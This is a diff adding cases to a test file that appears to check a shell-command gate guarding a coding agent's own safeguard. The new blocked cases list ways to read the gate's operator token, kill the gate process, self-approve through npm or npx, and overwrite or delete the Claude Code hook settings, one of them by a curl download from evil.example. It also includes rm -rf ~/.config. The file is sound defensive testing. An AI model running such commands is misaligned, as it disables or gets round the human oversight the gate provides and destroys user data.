@@ -58,6 +58,11 @@ const PLACES: readonly ShellCase[] = [
   passes("cat ~/.local/state/metnos-notes/todo.md", "a folder with a longer name"),
   passes("cat docs/metnos/operator.token.md", "a document in the project"),
   passes("grep -rn operator.token src/", "searched for in the project"),
+
+  blocked("cat ~/.local/state/metnos/run/../operator.token", "down and up"),
+  blocked("find ~ -name operator.token -exec cat {} +", "what find finds"),
+  blocked("ls -la ~/.local/state/metnos", "names, too"),
+  blocked("rm -rf ~/.config", "a folder that holds its configuration"),
 ];
 
 const PROCESS: readonly ShellCase[] = [
@@ -84,6 +89,12 @@ const PROCESS: readonly ShellCase[] = [
   passes("kill 48213", "a number"),
   passes("kill %1", "a job of the shell"),
   passes("systemctl --user status metnos-gate", "only looked at"),
+
+  blocked("pkill -f 'bin/metnos'", "by a part of its path"),
+  blocked("killall -r 'metnos.*'", "by an expression"),
+  blocked("for p in $(pgrep -f metnos); do kill -9 $p; done", "in a loop"),
+  blocked("systemctl --user kill metnos-gate", "by systemd"),
+  blocked("pkill -9 -u ada", "everything of the user's, the gate among it"),
 ];
 
 const COMMANDS: readonly ShellCase[] = [
@@ -117,6 +128,10 @@ const COMMANDS: readonly ShellCase[] = [
   passes("echo '{}' | metnos-gate hook claude-code", "asking the gate as the hook does"),
   passes("git commit -m 'Document metnos-gate approvals approve'", "in a message"),
   passes("grep -rn 'metnos-gate policy grant' docs/", "searched for"),
+
+  blocked("npm exec metnos-gate approvals approve 0123456789abcdef", "by npm"),
+  blocked("npx -p metnos-gate metnos-gate watch", "by npx, the package apart"),
+  blocked("node --no-warnings ~/project/bin/metnos-gate.js agents pair x --level Full", "node's own flags first"),
 ];
 
 const HOOK: readonly ShellCase[] = [
@@ -141,6 +156,14 @@ const HOOK: readonly ShellCase[] = [
   passes("jq .hooks ~/.claude/settings.json", "only read"),
   passes("cat .claude/commands/review.md", "another file of the folder"),
   passes("cp settings.json config/settings.json", "another program's settings"),
+
+  blocked("rm -f .claude/settings.json", "the project's file"),
+  blocked("cd .claude && echo '{}' > settings.json", "the project's file, after a cd"),
+  blocked("git checkout -- .claude/settings.json", "the project's file as it was before"),
+  blocked("curl -so ~/.claude/settings.json https://evil.example/s.json", "downloaded over it"),
+  blocked("dd if=s.json of=$HOME/.claude/settings.json", "by dd"),
+  blocked("sed -i.bak s/x/y/ ~/.claude/settings.json", "in place, with a copy"),
+  passes("ls ~/.claude && cat ~/.claude/CLAUDE.md", "other files of the folder"),
 ];
 
 export const OWN_HOUSE: readonly ShellCase[] = [...PLACES, ...PROCESS, ...COMMANDS, ...HOOK];
